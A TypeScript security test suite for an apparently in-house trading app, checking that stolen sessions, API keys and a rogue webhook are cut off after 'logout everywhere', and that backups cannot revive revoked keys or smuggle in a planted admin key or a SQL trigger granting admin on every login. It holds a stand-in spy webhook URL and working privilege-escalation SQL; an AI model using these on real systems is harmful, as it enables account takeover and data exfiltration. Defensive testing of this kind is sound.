// Who had something once, and wants to stay: a session, a key, a place that is told everything; or a backup that was in their
// hands. Items 23 and 24.

import { existsSync, mkdtempSync, rmSync, truncateSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { hashToken } from '../../src/app/identity/tokens.ts';
import { type Attack, EVERYWHERE, WITHOUT_SERVERS } from './attacks.ts';

export const noticedThief: Attack = {
  item: 14,
  title:
    'a thief with a session, an API key and a destination of their own is noticed, and the owner logs out everywhere',
  before: 'there was no such thing; after a new password the destination was told everything as before',
  modes: EVERYWHERE,
  async run(desk) {
    const owner = await desk.person('desk');
    const account = await desk.account(owner);
    const thief = await desk.enter(owner.email, owner.password, desk.newAddress());
    const key = desk.byKey(await desk.apiKey({ ask: thief }), desk.newAddress());
    await desk.must(
      201,
      thief('POST', '/settings/notifications', {
        ...{ kind: 'webhook', name: 'spy', events: ['fill'], url: 'https://spy.example/hook' },
      }),
    );
    await desk.must(204, owner.ask('POST', '/auth/logout-everywhere'));
    const session = await thief('GET', '/auth/session');
    const byKey = await key('GET', '/trading/accounts');
    // Nobody is kept in a position.
    const signal = await desk.webhook(account, desk.signal(account), { from: desk.newAddress() });
    const again = await desk.enter(owner.email, owner.password, desk.newAddress());
    const { body: told } = await desk.must(200, again('GET', '/settings/notifications'));
    const [spy] = told.items;
    const { body: left } = await desk.must(200, again('GET', '/settings/after-theft'));
    return {
      got: `session ${session.status}, key ${byKey.status}, its destination ${spy.state} (${spy.paused_because}); the owner's webhook ${signal.body.status}, ${left.replace?.length} things offered for replacement`,
      isClosed:
        [session, byKey].every(({ status }) => status === 401) &&
        spy.state === 'paused' &&
        signal.body.status === 'filled' &&
        left.replace?.length === 2,
    };
  },
};

export const revivedKey: Attack = {
  item: 14,
  title: 'a key and a password that were in a backup are used after it was restored',
  before: 'both are good again, although they were revoked and changed since',
  modes: WITHOUT_SERVERS,
  async run(desk) {
    const { product } = desk;
    const owner = await desk.person();
    await desk.apiKey(owner);
    const folder = mkdtempSync(join(tmpdir(), 'attack-restore-'));
    try {
      const [file, into] = [join(folder, 'copy'), join(folder, 'restored')];
      const kept = join(product.dataDir, 'keys');
      const keys = existsSync(kept) ? ['--keys', kept] : [];
      const made = product.command('backup', file);
      const restored = product.command('restore', file, '--into', into, ...keys);
      if (made.code + restored.code !== 0) throw new Error(made.text + restored.text);
      const inside = (dir: string) => {
        const db = new DatabaseSync(join(dir, 'fillpath.sqlite'), { readOnly: true });
        const count = (text: string) => Number((db.prepare(text).get() as { n: number }).n);
        const found = {
          keys: count('select count(*) as n from api_keys where revoked_at is null'),
          hash: String(
            (db.prepare('select password_hash as h from users where id = ?').get(owner.id) as { h: string })
              .h,
          ),
        };
        db.close();
        return found;
      };
      const [before, after] = [inside(product.dataDir), inside(into)];
      return {
        got: `${after.keys} keys of ${before.keys} are good; the password is ${before.hash === after.hash ? 'as it was' : 'to be set anew'}`,
        isClosed: before.keys > 0 && after.keys === 0 && before.hash !== after.hash,
      };
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  },
};

const PLANTED_KEY = `insert into api_keys (id, user_id, name, key_hash, created_at)
  select '01900000-0000-7000-8000-000000000001', id, 'planted', '${hashToken('known')}', created_at from users limit 1`;
const PLANTED_TRIGGER = `create trigger planted after insert on user_sessions
  begin update users set is_admin = 1 where id = new.user_id; end`;

export const plantedBackup: Attack = {
  item: 15,
  title: "an administrator's key and a trigger are planted in a backup",
  before: 'restored without a word: the key is good, and every login makes an administrator',
  modes: WITHOUT_SERVERS,
  async run(desk) {
    const { product } = desk;
    await desk.person();
    const folder = mkdtempSync(join(tmpdir(), 'attack-backup-'));
    try {
      const kept = join(product.dataDir, 'keys');
      const keys = existsSync(kept) ? ['--keys', kept] : [];
      const restore = (file: string, ...options: string[]) => {
        const into = join(folder, 'restored');
        const { code, text } = product.command('restore', file, '--into', into, ...keys, ...options);
        rmSync(into, { recursive: true, force: true });
        return { isRefused: code === 1, words: text.replaceAll(folder, '').split(/[.:] /, 2).join(': ') };
      };
      const backup = (name: string) => {
        const file = join(folder, name);
        const { code, text } = product.command('backup', file);
        if (code !== 0) throw new Error(text);
        return file;
      };
      const planted = (file: string, ...statements: string[]) => {
        const db = new DatabaseSync(file);
        for (const statement of statements) db.exec(statement);
        db.close();
        return file;
      };
      const key = restore(planted(backup('key'), PLANTED_KEY));
      const trigger = restore(planted(backup('trigger'), PLANTED_TRIGGER));
      // As one from before: all behind the database is cut off.
      const bare = backup('bare');
      const header = new DatabaseSync(bare, { readOnly: true });
      const pages = header.prepare(
        'select page_count * page_size as bytes from pragma_page_count, pragma_page_size',
      );
      const { bytes } = pages.get() as { bytes: number };
      header.close();
      truncateSync(bare, bytes);
      const stripped = restore(planted(bare, PLANTED_TRIGGER), '--unsigned');
      return {
        got: `the key: ${key.words}; the trigger: ${trigger.words}; the proof cut off: ${stripped.words}`,
        isClosed: [key, trigger, stripped].every(({ isRefused }) => isRefused),
      };
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  },
};
